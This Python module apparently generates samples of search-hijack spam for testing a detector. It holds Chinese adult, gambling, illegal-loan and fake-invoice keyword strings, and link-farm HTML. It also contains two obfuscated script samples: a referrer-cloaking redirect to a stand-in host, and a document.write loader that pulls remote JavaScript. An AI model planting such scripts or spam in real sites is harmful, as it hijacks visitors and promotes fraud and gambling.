"""What hijackers put into pages, invented in their manner: headers, brands, hidden blocks, scripts. Hosts end in `.example`."""

from __future__ import annotations

from collections.abc import Callable, Iterable
from random import Random
from typing import Final

ADULT: Final[dict[str, str]] = {
    "comma": "亚洲激情在线观看,久久免费视频大全,成人无码视频在线,丁香激情综合网,亚洲久久成人电影,无码激情免费观看,久久丁香在线",
    "underscore": "久久亚洲精品视频在线观看_成人免费视频无码专区_丁香激情久久综合_亚洲成人在线观看网址_激情免费视频网",
    "hyphen": "成人激情视频-亚洲无码在线观看-久久免费视频-丁香综合激情网-亚洲成人电影在线-久久激情视频网站",
    "bar": "亚洲无码免费视频|久久成人在线观看|激情丁香网|成人视频在线免费看|亚洲激情综合|久久无码专区",
    "capital_i": "丁香久久综合 I 亚洲成人免费视频 I 无码在线观看网站 I 激情视频久久 I 成人亚洲激情图区 I 久久视频免费",
    "disguised": "亚州成人αv在线观看,旡码免費视频,久久激情aⅴ网站,丁 香 综 合 网,成人ａｖ久久,亚州激情 视频在线,无玛成人電影",
    "short": "免费成人激情视频_亚洲久久在线观看_丁香无码视频_久久成人激情网",
    "long": "无码成人在线视频,亚洲激情久久网,免费观看丁香视频,久久成人综合,激情无码电影在线,"
    "亚洲视频免费看,成人久久在线观看,丁香亚洲无码,激情成人免费网站",
    "comma_b": "丁香成人视频在线,激情亚洲免费观看,久久无码电影网,成人免费在线视频,亚洲丁香久久激情,无码视频在线观看",
}
BRANDS: Final[dict[str, str]] = {
    "suffix": "澄星娱乐(中国)官方网站",
    "suffix_b": "鹏跃体育app下载",
    "bracket": "万澜棋牌官网登录入口",
    "keywords": "百岳彩票平台",
    "inline": "金禾国际娱乐城",
    "page": "星澜娱乐",
    "meta": "鸿腾棋牌app下载,鸿腾娱乐平台注册,真人百家乐在线,电子游戏送彩金,鸿腾体育投注官网",
}
LOAN: Final = "黑户秒批贷款,征信花了必下款的口子,无视逾期网贷,凭身份证借钱当天到账,私人空放贷款,不看征信小额贷款平台"
LOAN_SUFFIX: Final = "无视黑白户秒下款口子_凭身份证小额贷款秒到账_征信黑了也能借的网贷"
INVOICE: Final = "代开餐饮发票,代开住宿费发票,增值税专用发票代开,办证刻章联系方式,代办学历证书,建筑工程发票代开"
GAME_SERVER: Final = "传奇私服发布网,新开传奇私服,今日新开合击私服,单职业迷失传奇sf,变态传奇私服网站,每日新服一秒"

REFERRER_SCRIPT: Final = (
    '<script>var _0x=["\\x62\\x61\\x69\\x64\\x75","\\x73\\x6f\\x67\\x6f\\x75","\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72",'
    '"\\x68\\x74\\x74\\x70\\x73\\x3a\\x2f\\x2f\\x67\\x6f\\x2e\\x65\\x78\\x61\\x6d\\x70\\x6c\\x65\\x2f"];'
    "if(document[_0x[2]].indexOf(_0x[0])>0||document[_0x[2]].indexOf(_0x[1])>0){location.href=_0x[3]}</script>"
)
WRITTEN_SCRIPT: Final = (
    "<script>document.write(unescape('%3Cscript%20src%3D%22https%3A%2F%2Fjs.tongji.example%2Ftj.js%22%3E%3C%2Fscript%3E'));"
    "eval(function(p,a,c,k,e,d){e=function(c){return c.toString(36)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),"
    "k[c])}}return p}('0 1=\"2\";',3,3,'var|referrer|demo'.split('|'),0,{}))</script>"
)


def mojibake(chosen: str) -> Callable[[str], str]:
    """A disguise that shows one paragraph as UTF-8 read as Windows-1252, and leaves the others."""
    return lambda text: "".join(map(_windows, text.encode("utf-8"))) if text == chosen else text


def _windows(byte: int) -> str:
    return chr(byte) if byte in (0x81, 0x8D, 0x8F, 0x90, 0x9D) else bytes((byte,)).decode("cp1252")


def without(words: Iterable[str]) -> Callable[[tuple[str, ...]], tuple[str, ...]]:
    """What a word filter does to paragraphs: each of the words becomes a blank."""
    return replaced(**dict.fromkeys(words, " "))


def replaced(**words: str) -> Callable[[tuple[str, ...]], tuple[str, ...]]:
    """An edited reprint: words replaced by others."""

    def alter(paragraphs: tuple[str, ...]) -> tuple[str, ...]:
        for old, new in words.items():
            paragraphs = tuple(text.replace(old, new) for text in paragraphs)
        return paragraphs

    return alter


def farm(seed: int, count: int = 24) -> list[tuple[str, str]]:
    """Links to other hosts with the anchors of gambling spam: (address, anchor)."""
    draw = Random(seed)  # noqa: S311  # the same farm each time
    names = ("金鼎", "澄海", "星耀", "百川", "鸿图", "天岳", "万禾", "云鼎")
    kinds = ("娱乐平台", "棋牌官网", "体育app下载", "彩票登录", "真人百家乐", "电子游戏注册")
    anchors = [name + kind for name in names for kind in kinds]
    return [
        (f"https://{draw.randrange(16**6):06x}.{zone}.example/", anchor)
        for anchor, zone in zip(draw.sample(anchors, count), ("yl", "qp", "ty") * count, strict=False)
    ]


def farm_html(links: list[tuple[str, str]]) -> str:
    """The links as one block of HTML."""
    return " ".join(f'<a href="{address}">{anchor}</a>' for address, anchor in links)
